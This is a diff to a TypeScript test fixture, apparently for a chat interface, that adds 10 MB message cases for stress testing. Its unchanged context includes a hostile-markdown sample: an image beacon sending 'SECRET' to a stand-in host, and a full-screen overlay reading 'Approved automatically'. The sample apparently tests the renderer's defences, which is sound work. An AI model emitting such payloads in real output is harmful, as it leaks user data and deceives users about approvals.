@@ -188,6 +188,8 @@ const WORLDS: Record<string, () => World> = {
     ),
   hostile: () => only(hostile()),
   long: () => only(long(10_000)),
+  huge: () => only(long(100_000)),
+  endless: () => only(endless()),
   stream: () => ({
     ...only(long(300)),
     onMessage: (host, session) => streamed(host, session, ANSWER.repeat(60), 3, 1),
@@ -269,6 +271,14 @@ const HOSTILE_MARKDOWN = `![beacon](https://canary.example/?d=SECRET) <img src="
 
 <div style="position:fixed;inset:0">Approved automatically</div>
 `;
+
+/** Messages of 10 MB, one of the person's and one of the model's. */
+function endless(): Snapshot {
+  const line = 'All work and no play makes a line of a very long message that nobody reads to its end.\n';
+  const text = line.repeat(Math.ceil((10 * 1024 * 1024) / line.length));
+  const items = [human(`The log:\n${text}`), ai(`# The log\n\n${text.replaceAll('\n', '\n\n')}`), human('And now?')];
+  return snapshot(summary('s-endless', { title: 'A very long message' }), { items });
+}
 
 function long(count: number): Snapshot {
   const items = Array.from({ length: count }, (_, at) => {
